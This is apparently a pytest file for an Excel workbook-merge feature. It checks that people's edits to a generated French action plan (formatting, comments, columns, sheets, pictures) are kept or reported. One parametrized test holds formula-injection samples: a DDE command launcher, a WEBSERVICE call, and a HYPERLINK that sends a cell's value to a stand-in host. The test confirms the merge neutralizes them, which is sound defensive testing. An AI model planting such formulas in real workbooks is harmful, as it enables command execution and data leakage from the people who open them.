"""What people do to a workbook besides filling its cells: columns, looks, notes, sheets, pictures, formulas."""

from __future__ import annotations

import re
import zipfile
from base64 import b64decode
from dataclasses import replace
from io import BytesIO
from typing import TYPE_CHECKING, Any

import pytest
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment
from openpyxl.formatting.rule import Rule
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.styles.colors import Color
from openpyxl.worksheet.datavalidation import DataValidation

from planforge.document.documents import Worksheet
from planforge.document.tables import Column, Table, row
from planforge.formats.excel import ExcelWriter
from planforge.formats.excel.layout import HOME, LISTS
from planforge.formats.merging import EditKind
from tests.gate.hands import rewritten, with_picture
from tests.gate.plans import COLUMNS, action, actions, generated, plan_sheet, second_sheet, workbook

if TYPE_CHECKING:
    from collections.abc import Callable

    from openpyxl import Workbook as Book

    from planforge.formats.merging import Merged
    from tests.formats.excel.merge.conftest import Case

DOT = b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYPj/HwADAgH/eL9GtQAAAABJRU5ErkJggg==")
OTHER = [action(0, load=50), *actions()[1:]]  # something of the record changed, so that ours is not what theirs was


def on_actions(change: Callable[[Any], object]) -> Callable[[Book], object]:
    return lambda book: change(book["Actions"])


def told(merged: Merged) -> set[tuple[str, str, str]]:
    every = (*merged.kept, *merged.conflicts, *merged.lost_looks)
    return {(edit.kind.value, edit.where.replace("\u00a0", " "), edit.theirs) for edit in every}


def lost(merged: Merged) -> set[str]:
    return {edit.theirs for edit in merged.lost_looks}


def test_looks_that_a_person_gave_stay(case: Case) -> None:
    def paint(page: Any) -> None:
        page["B8"].font = Font(name="Calibri", size=14, bold=True, italic=True, underline="single", color="FFFF0000")
        page["B8"].fill = PatternFill("solid", fgColor=Color(theme=4, tint=0.6))
        page["G8"].alignment = Alignment(horizontal="right", vertical="top", wrap_text=True, indent=1)

    case.edit(on_actions(paint))
    merged = case.merge(generated([action(0), action(1, who="RSSI"), *actions()[2:]]))
    page = case.book()["Actions"]
    font, fill = page["B8"].font, page["B8"].fill.fgColor.rgb
    assert page["B8"].value == "RSSI"
    assert (font.b, font.i, font.u, font.sz, font.color.rgb) == (True, True, "single", 14, "FFFF0000")
    assert fill == "FFB9CDE5"
    assert (page["G8"].alignment.horizontal, page["G8"].alignment.vertical) == ("right", "top")
    assert not page["B8"].protection.locked
    where = "feuille « Actions », ligne « Isoler les sauvegardes 1 », colonne « Pilote », mise en forme"
    assert ("kept", where, "gras, italique, souligné, couleur du texte, taille, fond") in told(merged)


def test_a_look_that_nobody_touched_follows_the_record(case: Case) -> None:
    case.edit(on_actions(lambda page: setattr(page["G8"], "font", Font(bold=True, size=10, color="FF1F2933"))))
    case.merge(generated([action(0), action(1, step="plus en gras"), *actions()[2:]]))
    page = case.book()["Actions"]
    assert (page["A8"].font.b, page["G8"].font.b) == (False, True)


def test_words_in_bold_inside_a_text_stay(case: Case) -> None:
    bold = InlineFont(rFont="Calibri", sz=10, b=True, color=Color("FF1F2933"))
    case.edit(
        on_actions(lambda page: page.__setitem__("G8", CellRichText("avant ", TextBlock(bold, "fort"), " après")))
    )
    case.merge(generated(OTHER))
    words = case.book()["Actions"]["G8"].value
    assert str(words) == "avant fort après"
    assert [part.font.b for part in words if isinstance(part, TextBlock)].count(True) == 1


def test_notes_of_people_stay_and_ours_are_renewed(case: Case) -> None:
    def hang(page: Any) -> None:
        page["C9"].comment = Comment("Vérifié par\nla garde", "Mme Petit")
        page["K3"].comment = Comment("sur une cellule vide", "Mme Petit")

    case.edit(on_actions(hang))
    columns = tuple(replace(one, note="Toujours une fonction.") if one.key == "who" else one for one in COLUMNS)
    merged = case.merge(generated(columns=columns))
    page = case.book()["Actions"]
    assert page["C9"].comment.text == "Vérifié par\nla garde"
    assert page["K3"].comment.text == "sur une cellule vide"
    assert "Toujours une fonction." in page["B6"].comment.text
    where = "feuille « Actions », ligne « Prévenir la garde 2 », colonne « Fait », commentaire"
    assert ("kept", where, "Vérifié par\nla garde") in told(merged)
    before = case.theirs
    case.merge()
    assert case.theirs == before


def test_threaded_comments_are_read_in_their_own_words(case: Case) -> None:
    case.edit(on_actions(lambda page: setattr(page["C9"], "comment", Comment("[Threaded comment] notice", "x"))))

    def thread(parts: dict[str, bytes]) -> None:
        kind = "http://schemas.microsoft.com/office/2017/10/relationships/threadedComment"
        name = next(name for name in parts if name.endswith("_rels/sheet2.xml.rels"))
        relation = f'<Relationship Id="rIdT" Type="{kind}" Target="/xl/threadedComments/threadedComment1.xml"/>'
        parts[name] = parts[name].replace(b"</Relationships>", relation.encode() + b"</Relationships>")
        words = '<threadedComment ref="C9" id="{1}"><text>Qui valide ?</text></threadedComment>'
        more = '<threadedComment ref="C9" id="{2}"><text>Moi.</text></threadedComment>'
        space = "http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"
        parts["xl/threadedComments/threadedComment1.xml"] = (
            f'<ThreadedComments xmlns="{space}">{words}{more}</ThreadedComments>'.encode()
        )

    case.theirs = rewritten(case.theirs, thread)
    case.merge(generated(OTHER))
    assert case.book()["Actions"]["C9"].comment.text == "Qui valide ?\nMoi."


def test_a_title_that_a_person_changed_stays(case: Case) -> None:
    case.edit(on_actions(lambda page: page.__setitem__("B6", "Responsable")))
    case.edit(on_actions(lambda page: page.__setitem__("B8", "Cadre")))
    case.merge(generated(OTHER))
    page = case.book()["Actions"]
    assert (page["B6"].value, page["B8"].value, page["B9"].value) == ("Responsable", "Cadre", "DSI")
    assert page.tables["t_actions"].column_names[1] == "Responsable"


def test_a_title_that_was_emptied_or_doubled_is_made_legal(case: Case) -> None:
    case.edit(on_actions(lambda page: (page.__setitem__("B6", None), page.__setitem__("G6", "Action"))))
    case.merge(generated(OTHER))
    page = case.book()["Actions"]
    assert [page[f"{letter}6"].value for letter in "ABG"] == ["Action", "Pilote", "Action (2)"]


def test_a_column_between_two_others_goes_after_ours(case: Case) -> None:
    def insert(page: Any) -> None:
        page.insert_cols(2)
        page.tables["t_actions"].ref = page.tables["t_actions"].autoFilter.ref = "A6:I10"
        for number, value in enumerate(("Lieu", "Bloc", "PUI"), start=6):
            page[f"B{number}"] = value
        page["C8"] = "Cadre"

    case.edit(on_actions(insert))
    case.merge(generated(OTHER))
    page = case.book()["Actions"]
    assert [page[f"I{number}"].value for number in (6, 7, 8, 9)] == ["Lieu", "Bloc", "PUI", None]
    assert [page[f"B{number}"].value for number in (6, 7, 8)] == ["Pilote", "DSI", "Cadre"]
    assert page["C4"].value == "cyberattaque" or page["B4"].value == "cyberattaque"


def test_a_column_without_a_title_stays_outside_the_table(case: Case) -> None:
    case.edit(on_actions(lambda page: page.__setitem__("J9", "pensée")))
    case.merge(generated([action(2), action(0)]))
    page = case.book()["Actions"]
    assert page["I7"].value == "pensée"
    assert page.tables["t_actions"].ref == "A6:H8"


def test_a_deleted_column_comes_back_hidden(case: Case) -> None:
    def delete(page: Any) -> None:
        page.delete_cols(5)
        page.tables["t_actions"].ref = page.tables["t_actions"].autoFilter.ref = "A6:G10"
        page["F8"] = "remarque"

    case.edit(on_actions(delete))
    merged = case.merge(generated(OTHER))
    page = case.book()["Actions"]
    assert page.column_dimensions["E"].hidden
    assert (page["E8"].value, page["G8"].value) == ("À faire", "remarque")
    assert lost(merged) == {"colonne supprimée, masquée ici"}
    assert lost(case.merge()) == set()
    assert case.book()["Actions"].column_dimensions["E"].hidden


def test_a_column_that_the_record_dropped_stays_where_somebody_wrote(case: Case) -> None:
    case.edit(on_actions(lambda page: page.__setitem__("G9", "à garder")))
    columns = tuple(one for one in COLUMNS if one.key not in {"remark", "state"})
    rows = [replace(one, cells=one.cells[:4] + one.cells[5:6]) for one in actions()]
    case.merge(generated(rows, columns=columns))
    page = case.book()["Actions"]
    titles = [page.cell(6, number).value for number in range(1, 8)]
    assert titles == ["Action", "Pilote", "Fait", "Échéance", "Jours", "Clé", "Remarque"]
    assert page["G9"].value == "à garder"


def test_a_new_column_of_the_record_joins(case: Case) -> None:
    case.edit(on_actions(lambda page: page.__setitem__("G9", "à garder")))
    columns = (*COLUMNS[:2], Column("cost", "Coût"), *COLUMNS[2:])
    rows = [
        replace(one, cells=(*one.cells[:2], replace(one.cells[1], value="10 €"), *one.cells[2:])) for one in actions()
    ]
    case.merge(generated(rows, columns=columns))
    page = case.book()["Actions"]
    assert (page["C9"].value, page["H9"].value) == ("10 €", "à garder")


def test_widths_and_hidden_columns_stay(case: Case) -> None:
    def arrange(page: Any) -> None:
        page.column_dimensions["B"].width = 40
        page.column_dimensions["D"].hidden = True

    case.edit(on_actions(arrange))
    case.edit(on_actions(lambda page: page.__setitem__("G9", "x")))
    case.merge(generated(OTHER))
    page = case.book()["Actions"]
    assert (page.column_dimensions["B"].width, page.column_dimensions["D"].hidden) == (40, True)


def test_only_widths_changed(case: Case) -> None:
    case.edit(on_actions(lambda page: setattr(page.column_dimensions["B"], "width", 40)))
    case.merge(generated(OTHER))
    assert case.book()["Actions"].column_dimensions["B"].width == 40


def test_a_renamed_sheet_keeps_its_new_name(case: Case) -> None:
    def rename(book: Book) -> None:
        book["Actions"].title = "Mes actions"
        book["Équipes"].sheet_state = "hidden"
        for name in (HOME, "Mes actions"):
            for line in book[name].iter_rows():
                for cell in line:
                    if isinstance(cell.value, str) and cell.value.startswith("="):
                        cell.value = cell.value.replace("'Actions'", "'Mes actions'")

    case.edit(rename)
    merged = case.merge(generated(OTHER))
    book = case.book()
    assert book.sheetnames == [HOME, "Mes actions", "Équipes", LISTS]
    assert book["Équipes"].sheet_state == "hidden"
    assert any("'Mes actions'!" in str(cell.value) for cell in book[HOME]["D"])
    assert ("kept", "feuille « Actions », nom de la feuille", "Mes actions") in told(merged)


def test_an_added_sheet_is_carried(case: Case) -> None:
    def add(book: Book) -> None:
        page = book.create_sheet("Mes notes")
        page["A1"], page["A1"].font = "Réunion", Font(bold=True, size=16)
        page["B2"], page["B2"].number_format = 0.25, "0%"
        page["C3"], page["C3"].fill = True, PatternFill("solid", fgColor="FFFFFF00")
        page.merge_cells("A5:C5")
        page["A5"] = "fusionné"
        page["D1"].comment = Comment("note", "x")
        page["D2"], page["D2"].hyperlink = "site", "https://exemple.invalid/"
        page.column_dimensions["A"].width = 33

    case.edit(add)
    case.theirs = with_picture(case.theirs, 5, (2, 5), DOT)
    merged = case.merge(generated(OTHER))
    page = case.book()["Mes notes"]
    assert (page["A1"].value, page["A1"].font.b, page["A1"].font.sz) == ("Réunion", True, 16)
    assert (page["B2"].value, page["B2"].number_format) == (0.25, "0%")
    assert (page["C3"].value, page["C3"].fill.fgColor.rgb) == (True, "FFFFFF00")
    assert [str(area) for area in page.merged_cells.ranges] == ["A5:C5"]
    assert page["D1"].comment.text == "note"
    assert page["D2"].hyperlink.target == "https://exemple.invalid/"
    assert page.column_dimensions["A"].width == 33
    assert pictures(case) == [("xl/drawings/drawing2.xml", 2, 5)]
    assert ("kept", "feuille « Mes notes », feuille ajoutée", "4 lignes") in told(merged)
    before = case.theirs
    case.merge()
    assert case.theirs == before


def stored(data: bytes) -> bytes:
    """Formulas with a stored result, as every spreadsheet program leaves them."""

    def store(parts: dict[str, bytes]) -> None:
        for name in [name for name in parts if name.startswith("xl/worksheets/sheet")]:
            parts[name] = parts[name].replace(b"</f><v/>", b"</f><v>8</v>").replace(b"</f><v></v>", b"</f><v>8</v>")

    return rewritten(data, store)


def test_formulas_of_added_sheets_follow_the_rows(case: Case) -> None:
    case.edit(lambda book: book.create_sheet("Calculs").__setitem__("A1", "='Actions'!F9*2"))
    case.theirs = stored(case.theirs)
    case.merge(generated([action(0), action(2), action(1)]))
    assert case.book()["Calculs"]["A1"].value == "='Actions'!F8*2"


HARMFUL = (
    '=WEBSERVICE("http://exemple.invalid/")',
    '=HYPERLINK("file:///c:/x","x")',
    '=HYPERLINK("http://exemple.invalid/"&F7,"x")',
    "=[1]Feuil1!A1",
    "=cmd|'/c calc'!A0",
    '=INDIRECT("A1")',
    "='Feuille partie'!A1",
)


@pytest.mark.parametrize("formula", HARMFUL)
def test_a_formula_that_leaves_the_file_leaves_its_value(case: Case, formula: str) -> None:
    case.edit(lambda book: book.create_sheet("Calculs").__setitem__("A1", formula))
    case.theirs = stored(case.theirs)
    merged = case.merge(generated(OTHER))
    assert case.book()["Calculs"]["A1"].value == 8
    assert lost(merged) == {formula}


def test_a_formula_in_our_columns_leaves_its_value(case: Case) -> None:
    case.edit(on_actions(lambda page: page.__setitem__("G7", "=F7*2")))
    case.theirs = stored(case.theirs)
    merged = case.merge(generated(OTHER))
    assert case.book()["Actions"]["G7"].value == 8
    assert lost(merged) == {"=F7*2"}


def test_a_text_that_looks_like_a_formula_stays_text(case: Case) -> None:
    def type_text(page: Any) -> None:
        page["G7"].value, page["G7"].data_type = "=1+1", "s"

    case.edit(on_actions(type_text))
    case.merge(generated(OTHER))
    cell = case.book()["Actions"]["G7"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


def test_a_date_typed_in_a_column_of_text_stays_a_date(case: Case) -> None:
    def type_date(page: Any) -> None:
        page["G7"].value, page["G7"].number_format = 46000, "dd/mm/yyyy"

    case.edit(on_actions(type_date))
    merged = case.merge(generated(OTHER))
    assert case.book()["Actions"]["G7"].number_format == "dd/mm/yyyy"
    assert [edit.theirs for edit in merged.kept] == ["09/12/2025"]


def test_links_to_the_web_stay_and_others_are_told(case: Case) -> None:
    def link(page: Any) -> None:
        page["G7"], page["G7"].hyperlink = "voir", "https://exemple.invalid/a"
        page["A8"].hyperlink = "file://serveur/partage"

    case.edit(on_actions(link))
    merged = case.merge(generated(OTHER))
    page = case.book()["Actions"]
    assert page["G7"].hyperlink.target == "https://exemple.invalid/a"
    assert page["A8"].hyperlink is None
    assert lost(merged) == {"file://serveur/partage"}


def pictures(case: Case) -> list[tuple[str, int, int]]:
    """The pictures of the last merged file: their drawing, the row and the column of their corner, counted from 0."""
    found = []
    with zipfile.ZipFile(BytesIO(case.theirs)) as archive:
        for name in sorted(name for name in archive.namelist() if name.startswith("xl/drawings/drawing")):
            anchors = re.findall(r"<oneCellAnchor.*?</oneCellAnchor>", archive.read(name).decode(), re.DOTALL)
            for anchor in (anchor for anchor in anchors if "r:embed" in anchor):
                row, column = (int(re.findall(rf"<{axis}>(\d+)<", anchor)[0]) for axis in ("row", "col"))
                found.append((name, row, column))
    return found


def test_pictures_stay_beside_their_row(case: Case) -> None:
    case.theirs = with_picture(case.theirs, 2, (7, 9), DOT)
    case.theirs = with_picture(case.theirs, 3, (6, 5), DOT)
    merged = case.merge(generated([action(9), *actions()]))
    assert pictures(case) == [("xl/drawings/drawing1.xml", 6, 5), ("xl/drawings/drawing2.xml", 8, 9)]
    assert ("kept", "feuille « Actions », image", "plan du site") in told(merged)
    before = case.theirs
    case.merge()
    assert case.theirs == before


def test_a_picture_that_is_none_is_told(case: Case) -> None:
    case.theirs = with_picture(case.theirs, 2, (7, 9), b"<svg/>")
    assert lost(case.merge(generated(OTHER))) == {"plan du site"}
    assert pictures(case) == []


def test_what_is_not_carried_is_told(case: Case) -> None:
    def change(page: Any) -> None:
        page.merge_cells("B8:C8")
        page.conditional_formatting.add("F7:F10", Rule(type="cellIs", operator="greaterThan", formula=["5"]))
        rule = DataValidation(type="whole", operator="lessThan", formula1="50")
        rule.add("F7:F10")
        page.add_data_validation(rule)
        page.row_dimensions[9].hidden = True

    case.edit(on_actions(change))
    merged = case.merge(generated(OTHER))
    assert {words.partition(" :")[0] for words in lost(merged)} == {
        "cellules fusionnées B8:C8",
        "couleur automatique ajoutée",
        "règle de saisie ajoutée",
        "lignes masquées",
    }


def test_a_filter_is_told(case: Case) -> None:
    def narrow(parts: dict[str, bytes]) -> None:
        name = next(name for name in parts if b'displayName="t_actions"' in parts[name])
        kept = b'<filterColumn colId="1"><filters><filter val="DSI"/></filters></filterColumn><filterColumn colId="7"'
        parts[name] = parts[name].replace(b'<filterColumn colId="7"', kept)

    case.theirs = rewritten(case.theirs, narrow)
    assert lost(case.merge(generated(OTHER))) == {"filtre"}


def test_a_word_added_to_a_list_is_told(case: Case) -> None:
    case.edit(lambda book: book[LISTS].__setitem__("B9", "Abandonné"))
    assert lost(case.merge(generated(OTHER))) == {"mot ajouté à une liste : Abandonné"}


def test_a_sheet_that_the_record_dropped_stays_where_somebody_wrote(case: Case) -> None:
    case.edit(lambda book: book["Équipes"].__setitem__("B6", 12))
    ours = ExcelWriter().write(workbook(plan_sheet(actions())))
    merged = case.merge(ours)
    page = case.book()["Équipes"]
    assert page["B6"].value == 12
    assert [(edit.kind, edit.theirs) for edit in merged.kept] == [(EditKind.UNPLACED, "12")]
    case.merge()
    assert case.book()["Équipes"]["B6"].value == 12
    case.merge(generated())
    assert case.book()["Équipes"]["B6"].value == 12
    assert case.book()["Équipes"].tables


def test_a_sheet_that_the_record_dropped_goes_where_nobody_wrote(case: Case) -> None:
    ours = ExcelWriter().write(workbook(plan_sheet(actions())))
    assert case.merge(ours).data == ours


def test_a_sheet_that_a_person_deleted_comes_back(case: Case) -> None:
    case.edit(lambda book: book.remove(book["Équipes"]))
    merged = case.merge(generated(OTHER))
    assert "Équipes" in case.book().sheetnames
    assert lost(merged) <= {"feuille supprimée, revenue"}
    assert bool(lost(merged)) == case.kept_base


def test_a_copy_of_a_sheet_with_something_in_it_is_an_added_sheet(case: Case) -> None:
    def copy(book: Book) -> None:
        page = book.copy_worksheet(book["Actions"])
        page.title = "Essai"
        page["G7"] = "dans la copie"

    case.edit(copy)
    case.merge(generated(OTHER))
    assert case.book()["Essai"]["G7"].value == "dans la copie"


def test_the_first_sheet_is_merged_too(case: Case) -> None:
    def fill(book: Book) -> None:
        for cell in book[HOME]["A"]:
            if cell.value == "Approbation":
                book[HOME][f"B{cell.row}"] = "Mme Martin, directrice"
        book[HOME]["B50"] = "écrit en dessous"

    case.edit(fill)
    merged = case.merge(generated(OTHER))
    values = {str(cell.value) for line in case.book()[HOME].iter_rows() for cell in line}
    assert {"Mme Martin, directrice", "écrit en dessous"} <= values
    assert ("kept", "feuille « À lire », ligne « Approbation »", "Mme Martin, directrice") in told(merged)


def test_lines_around_the_table_are_merged(case: Case) -> None:
    def write(page: Any) -> None:
        page["A3"] = "À suivre chaque lundi."
        page["A13"] = "Source : DSI et RSSI."
        page["A15"] = "Une ligne tout en bas"
        page["K2"] = "à droite du titre"

    case.edit(on_actions(write))
    case.merge(generated([*actions(), action(4)], facts=(("Scénario", "panne"), ("Durée", "14 jours"))))
    page = case.book()["Actions"]
    texts = {cell.value: cell.coordinate for line in page.iter_rows() for cell in line if isinstance(cell.value, str)}
    assert texts["À suivre chaque lundi."] == "A3"
    assert texts["panne"] == "B4"
    assert texts["Source : DSI et RSSI."] == "A15"
    assert texts["Une ligne tout en bas"] == "A16"
    assert texts["à droite du titre"] == "K2"


def test_a_line_that_both_changed_is_a_conflict(case: Case) -> None:
    case.edit(on_actions(lambda page: page.__setitem__("A13", "Source : moi.")))
    merged = case.merge(generated(note="Source : RSSI."))
    assert [(edit.theirs, edit.ours) for edit in merged.conflicts] == [("Source : moi.", "Source : RSSI.")]
    assert "RSSI" in case.book()["Actions"]["A13"].comment.text


def test_a_line_inserted_above_the_table_moves_everything_down(case: Case) -> None:
    def insert(page: Any) -> None:
        merges = [str(area) for area in page.merged_cells.ranges]
        for area in merges:
            page.unmerge_cells(area)
        page.insert_rows(4)
        page["A4"] = "Ajout de la direction"
        page.tables["t_actions"].ref = page.tables["t_actions"].autoFilter.ref = "A7:H11"

    case.edit(on_actions(insert))
    case.merge(generated(OTHER))
    page = case.book()["Actions"]
    assert page["A4"].value == "Ajout de la direction"
    assert page.tables["t_actions"].ref == "A7:H11"
    assert page.freeze_panes == "B8"
    assert page.print_title_rows == "$7:$7"
    formats = {str(found.sqref): [rule.formula[0] for rule in found.rules] for found in page.conditional_formatting}
    assert formats["A8:G11"] == ['LEFT(A8,11)="À COMPLÉTER"']


def test_narrow_tables_keep_what_stands_beside_them(case: Case) -> None:
    def write(book: Book) -> None:
        book["Équipes"]["D6"] = "à côté"
        book["Équipes"]["D5"] = "Titre"

    case.edit(write)
    case.merge(generated(OTHER))
    page = case.book()["Équipes"]
    assert [page[f"D{number}"].value for number in (5, 6)] == ["Titre", "à côté"]
    assert page.tables["t_equipes"].ref == "A5:D7"
    assert sum(1 for line in page.iter_rows() for cell in line if cell.value == "une équipe par nuit") == 1


def test_a_table_turned_into_a_range_is_still_known(case: Case) -> None:
    case.edit(on_actions(lambda page: (page.tables.clear(), page.__setitem__("G8", "x"))))
    case.merge(generated(OTHER))
    assert case.book()["Actions"]["G8"].value == "x"


def test_hidden_keys_deleted(case: Case) -> None:
    """As « Remove hidden rows and columns » does before a file is sent."""

    def strip(page: Any) -> None:
        page.delete_cols(8)
        page.tables["t_actions"].ref = page.tables["t_actions"].autoFilter.ref = "A6:G10"
        page["G8"] = "x"

    case.edit(on_actions(strip))
    merged = case.merge(generated([action(0), action(1), action(2, load=66), action(3)]))
    page = case.book()["Actions"]
    assert (page["G8"].value, len([1 for number in range(7, 11) if page[f"A{number}"].value])) == ("x", 4)
    if case.kept_base:
        assert (page["F9"].value, merged.conflicts) == (66, ())
    else:
        assert {(edit.theirs, edit.ours) for edit in merged.conflicts} >= {("4", "66")}


def test_other_sheets_of_the_same_workbook_are_left_alone(case: Case) -> None:
    extra = Worksheet("x", "X", "X", Table("x", (Column("a", "A"),), (row("1", "un"),)))
    case.before = case.theirs = ExcelWriter().write(workbook(plan_sheet(actions()), extra, second_sheet()))
    case.edit(on_actions(lambda page: page.__setitem__("G8", "x")))
    case.merge(ExcelWriter().write(workbook(plan_sheet(OTHER), second_sheet())))
    book = case.book()
    assert "X" not in book.sheetnames
    with zipfile.ZipFile(BytesIO(case.theirs)) as archive:
        assert archive.testzip() is None
